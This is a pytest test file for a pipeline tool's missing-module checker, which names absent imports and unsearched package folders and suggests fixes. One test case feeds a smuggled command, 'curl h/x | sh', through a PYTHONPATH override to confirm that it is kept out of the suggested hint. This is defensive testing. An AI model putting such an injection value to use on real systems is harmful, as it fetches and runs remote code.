"""The modules that a script imports and that the host's interpreter lacks."""

from __future__ import annotations

import sys
from dataclasses import replace
from pathlib import Path

import pytest

from pipeline.config.load import load_config
from pipeline.runs.missing_modules import missing_modules, with_reason
from pipeline.runs.view import View
from remote.link.local import local_host
from remote.project.scan import scan_project
from remote.protocol.findings import Finding
from tests.lab.payload import install_payload
from tests.pipeline.views import view_of

REASON = "; no environment is created, because this Python has torch"

FOLDER_IN_WORDS = "add the folder of the package to PYTHONPATH in `env:`"


def project(root: Path, *overrides: str) -> View:
    """Return a project whose script imports two absent modules, with this Python as its interpreter."""
    view = view_of(root)
    (root / "train.py").write_text("import no_such_one, json\nimport pytest\nfrom no_such_two.part import x\n")
    python = replace(view.survey.interpreter, path=sys.executable)
    view = replace(view, scan=scan_project(root), loaded=load_config("plain", root, overrides))
    return view.with_survey(replace(view.survey, interpreter=python))


@pytest.mark.parametrize(
    ("overrides", "hints"),
    [
        ((), [f"(cd / && {sys.executable} -m pip install no_such_one no_such_two)   (on the host)"]),
        (
            ("fixers.environment=create",),
            [
                "add to requirements.txt, one package a line: no_such_one, no_such_two; then: pipeline run --set"
                " host.python=venv/bin/python"
            ],
        ),
        (("env.PYTHONPATH=$LIBRARIES:src",), []),
        (("env.PYTHONPATH=../beside",), []),
    ],
)
def test_all_missing_modules_are_named_at_once(tmp_path: Path, overrides: tuple[str, ...], hints: list[str]) -> None:
    view = project(tmp_path / "project", *overrides)
    host = local_host(str(install_payload(tmp_path / "host")))
    try:
        findings = missing_modules(host, view).findings
    finally:
        host.close()
    assert [one.hint for one in findings] == hints
    words = f"train.py imports no_such_one, no_such_two, which {sys.executable} does not have"
    reason = REASON if "fixers.environment=create" in overrides else ""
    assert [one.message for one in findings] == [words + reason] * len(hints)


def test_modules_on_the_module_path_of_the_login_files_are_not_missing(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    view = project(tmp_path / "project")
    (tmp_path / "module").mkdir()
    (tmp_path / "module/no_such_one.py").touch()
    monkeypatch.setenv("PYTHONPATH", f".:{tmp_path}/module")
    host = local_host(str(install_payload(tmp_path / "host")))
    try:
        [finding] = missing_modules(host, view).findings
    finally:
        host.close()
    assert finding.message.startswith("train.py imports no_such_two, which")


def missing_with(tmp_path: Path, files: dict[str, str], command: str, search_path: str) -> list[str]:
    """Return the messages about a project with these files and this PYTHONPATH."""
    view = project(tmp_path / "project", f"command={command}", f"env.PYTHONPATH={search_path}")
    for path, text in files.items():
        (view.loaded.root / path).parent.mkdir(parents=True, exist_ok=True)
        (view.loaded.root / path).write_text(text)
    host = local_host(str(install_payload(tmp_path / "host")))
    try:
        found = missing_modules(host, replace(view, scan=scan_project(view.loaded.root))).findings
    finally:
        host.close()
    return [one.message.removesuffix(f", which {sys.executable} does not have") for one in found]


def test_a_module_in_a_source_folder_is_followed_as_a_script_is(tmp_path: Path) -> None:
    files = {
        "code/tool/__main__.py": "import no_such_three, kept\nimport pytest\n",
        "code/kept.py": "import no_such_four",
    }
    command = '["torchrun", "-m", "tool"]'
    assert missing_with(tmp_path, files, command, "./code/") == [
        "code/tool/__main__.py imports no_such_three and code/kept.py imports no_such_four"
    ]


@pytest.mark.parametrize(
    ("files", "where"),
    [
        ({"train.py": '"""Train."""\n\nimport os\nimport no_such_one\n'}, "train.py:4"),
        ({"train.py": "from kept import a\n", "kept.py": "import os, no_such_one.b as c\n"}, "kept.py:1"),
        (
            {"train.py": "import os\nimport kept\n", "kept.py": "# no_such_one\nfrom no_such_one import (\n  b,\n)"},
            "kept.py:2",
        ),
    ],
)
def test_the_line_that_imports_a_missing_module_is_named(tmp_path: Path, files: dict[str, str], where: str) -> None:
    view = project(tmp_path / "project")
    for path, text in files.items():
        (view.loaded.root / path).write_text(text)
    host = local_host(str(install_payload(tmp_path / "host")))
    [finding] = missing_modules(host, replace(view, scan=scan_project(view.loaded.root))).findings
    host.close()
    assert finding.where == where and finding.message.startswith(
        f"{where.partition(':')[0]} imports no_such_one, which"
    )


def test_a_module_in_a_folder_of_the_host_that_pythonpath_names_is_not_missing(tmp_path: Path) -> None:
    (tmp_path / "libraries").mkdir()
    (tmp_path / "libraries/no_such_one.py").touch()
    found = missing_with(tmp_path, {}, '["python", "train.py"]', f"{tmp_path}/libraries:.")
    assert found == ["train.py imports no_such_two"]


@pytest.mark.parametrize(
    ("listed", "steps"),
    [
        ("no-such.one==1.0\nNo_Such_Two\n", ""),
        ("no_such_two>=2\n", "add to requirements.txt, one package a line: no_such_one; then: "),
    ],
)
@pytest.mark.parametrize(("in_project", "option"), [(False, " --set host.python=venv/bin/python"), (True, "")])
def test_a_package_that_is_listed_already_is_installed_into_an_environment_of_the_project(
    tmp_path: Path, listed: str, steps: str, in_project: bool, option: str
) -> None:
    view = project(tmp_path / "project", "fixers.environment=create")
    (view.loaded.root / "requirements.txt").write_text(listed)
    view = replace(view, scan=scan_project(view.loaded.root), workdir=str(tmp_path / "workdir"))
    if in_project:
        venv = Path(view.workdir, view.layout.tree, "venv/bin")
        venv.mkdir(parents=True)
        (venv / "python").symlink_to(sys.executable)
        python = replace(view.survey.interpreter, path=str(venv / "python"))
        view = view.with_survey(replace(view.survey, interpreter=python))
    host = local_host(str(install_payload(tmp_path / "host")))
    try:
        [finding] = missing_modules(host, view).findings
    finally:
        host.close()
    assert finding.hint == f"{steps}pipeline run{option}"


def test_the_scripts_of_a_shell_script_are_named_with_the_reason_why_no_environment_is_created(tmp_path: Path) -> None:
    view = project(tmp_path / "project")
    files = {"run.sh": "cd native && python setup.py && cd ..\naccelerate launch train.py\n"}
    files |= {"native/setup.py": "from no_such_three.build import b\n"}
    files |= {"requirements.txt": "no_such_one\nno_such_two\nno_such_three\n"}
    for path, text in files.items():
        (view.loaded.root / path).parent.mkdir(exist_ok=True)
        (view.loaded.root / path).write_text(text)
    root = view.loaded.root
    loaded = load_config("plain", root, ("fixers.environment=create", "command=[bash, run.sh]"))
    host = local_host(str(install_payload(tmp_path / "host")))
    try:
        [finding] = missing_modules(host, replace(view, scan=scan_project(root), loaded=loaded)).findings
    finally:
        host.close()
    lacking = "native/setup.py imports no_such_three and train.py imports no_such_one, no_such_two"
    message = f"{lacking}, which {sys.executable} does not have"
    assert finding.message == f"{message}{REASON}"
    assert finding.hint == "pipeline run --set host.python=venv/bin/python"


@pytest.mark.parametrize(
    ("listed", "hint"),
    [
        ("opencv-python\n", "pipeline run --set host.python=venv/bin/python"),
        (
            "jiwer\n",
            "add to requirements.txt, one package a line: opencv-python; then: pipeline run --set"
            " host.python=venv/bin/python",
        ),
    ],
)
def test_the_error_of_the_proof_says_why_the_listed_package_was_not_installed(
    tmp_path: Path, listed: str, hint: str
) -> None:
    view = project(tmp_path / "project", "fixers.environment=create")
    (view.loaded.root / "requirements.txt").write_text(listed)
    view = replace(view, scan=scan_project(view.loaded.root))
    finding = Finding.warning("module-missing", "a package is not installed: cv2.dnn", "log", "add it")
    explained = with_reason(finding, view)
    assert (explained.message, explained.hint) == (f"{finding.message}{REASON}", hint)


def test_the_error_of_the_proof_is_unchanged_without_a_wanted_environment(tmp_path: Path) -> None:
    view = project(tmp_path / "project")
    finding = Finding.warning("module-missing", "a package is not installed: cv2", "log", "add it")
    assert with_reason(finding, view) == finding
    other = replace(finding, check="no-space")
    wanted = project(tmp_path / "wanted", "fixers.environment=create")
    assert with_reason(other, wanted) == other


PACKAGE = {"src/speech/__init__.py": "import torch_of_speech\n", "src/speech/train.py": "x = 1\n"}
BESIDE = {"speech/__init__.py": "", "speech/train.py": "x = 1\n"}
SCRIPT = "import json\nfrom speech.train import x\n"


def found_in(tmp_path: Path, files: dict[str, str], *overrides: str) -> list[tuple[str, str, str]]:
    """Return message, place and hint of each finding about a project with these files."""
    view = project(tmp_path / "project")
    (view.loaded.root / "train.py").unlink()
    for path, text in files.items():
        (view.loaded.root / path).parent.mkdir(parents=True, exist_ok=True)
        (view.loaded.root / path).write_text(text)
    view = replace(view, scan=scan_project(view.loaded.root), loaded=load_config("plain", view.loaded.root, overrides))
    host = local_host(str(install_payload(tmp_path / "host")))
    try:
        found = missing_modules(host, view).findings
    finally:
        host.close()
    return [(one.message, one.where, one.hint) for one in found if "torch_of_speech" not in one.message]


@pytest.mark.parametrize(
    ("files", "overrides", "place", "hint"),
    [
        (PACKAGE, (), "src/ of the project", "env: {PYTHONPATH: src}"),
        (BESIDE, (), "the project's folder", "env: {PYTHONPATH: .}"),
        (PACKAGE, ("env.PYTHONPATH=/opt/lib",), "src/ of the project", "env: {PYTHONPATH: /opt/lib:src}"),
        (PACKAGE, ("env.PYTHONPATH=x}; curl h/x | sh",), "src/ of the project", FOLDER_IN_WORDS),
    ],
)
def test_a_package_of_the_project_that_the_job_does_not_search_is_named_before_the_run(
    tmp_path: Path, files: dict[str, str], overrides: tuple[str, ...], place: str, hint: str
) -> None:
    found = found_in(tmp_path, {"run/asr.py": SCRIPT, **files}, "command=[python, run/asr.py]", *overrides)
    message = f"run/asr.py imports speech, but Python does not search the folder that contains it: {place}"
    assert found == [(message, "run/asr.py:2", f"in the config: {hint}")]


@pytest.mark.parametrize(
    ("files", "command", "path"),
    [
        (PACKAGE, "[python, run/asr.py]", "src"),
        (PACKAGE, "[python, run/asr.py]", "./src/:."),
        (BESIDE, "[python, -m, run.asr]", ""),
        ({"run/speech/train.py": "x = 1\n"}, "[python, run/asr.py]", ""),
        ({"src/json/__init__.py": "", "run/speech.py": ""}, "[python, run/asr.py]", ""),
        ({**PACKAGE, "run/asr.py": "import sys\nsys.path.append('src')\n" + SCRIPT}, "[python, run/asr.py]", ""),
        (
            {**PACKAGE, "run/asr.py": f"try:\n    {SCRIPT.splitlines()[1]}\nexcept ImportError: ...\n"},
            "[python, run/asr.py]",
            "",
        ),
        ({"src/pytest/__init__.py": "", "run/asr.py": "import pytest\n"}, "[python, run/asr.py]", ""),
        ({**PACKAGE, "go.sh": "export PYTHONPATH=src\npython run/asr.py\n"}, "[bash, go.sh]", ""),
    ],
)
def test_a_package_that_the_job_finds_or_may_find_is_not_reported(
    tmp_path: Path, files: dict[str, str], command: str, path: str
) -> None:
    overrides = [f"command={command}", *([f"env.PYTHONPATH={path}"] if path else [])]
    assert found_in(tmp_path, {"run/asr.py": SCRIPT, **files}, *overrides) == []


@pytest.mark.parametrize(
    ("names", "files", "hint"),
    [
        ("speech", PACKAGE, "in the config: env: {PYTHONPATH: src}"),
        ("speech", BESIDE, "in the config: env: {PYTHONPATH: .}"),
        ("speech.tools", PACKAGE, "add it"),
        ("cv2", PACKAGE, "add it"),
        ("speech, cv2", PACKAGE, "add it"),
    ],
)
def test_the_error_about_a_package_of_the_project_proposes_its_folder(
    tmp_path: Path, names: str, files: dict[str, str], hint: str
) -> None:
    view = project(tmp_path / "project")
    for path, text in files.items():
        (view.loaded.root / path).parent.mkdir(parents=True, exist_ok=True)
        (view.loaded.root / path).write_text(text)
    view = replace(view, scan=scan_project(view.loaded.root))
    finding = Finding.error("module-missing", f"a package is not installed: {names}", "log", "add it")
    assert with_reason(finding, view).hint == hint
